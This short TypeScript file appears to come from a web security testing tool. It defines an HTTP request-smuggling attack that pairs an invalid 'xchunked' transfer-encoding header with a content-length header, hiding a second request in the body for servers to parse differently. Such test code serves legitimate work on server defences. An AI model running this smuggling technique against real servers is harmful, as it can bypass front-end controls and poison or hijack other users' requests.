import type { Attack } from "../../Attack.ts";
import { smuggle } from "../../inside/smuggle.ts";

export const smuggleCoding: Attack = {
  name: "smuggle-strange-coding",
  group: "network",
  tries: "hide a second request behind a transfer coding that servers read differently",
  run: (attacker) =>
    smuggle(attacker, (second) => ({
      headers: { "transfer-encoding": "xchunked", "content-length": String(second.length) },
      body: second,
    })),
};
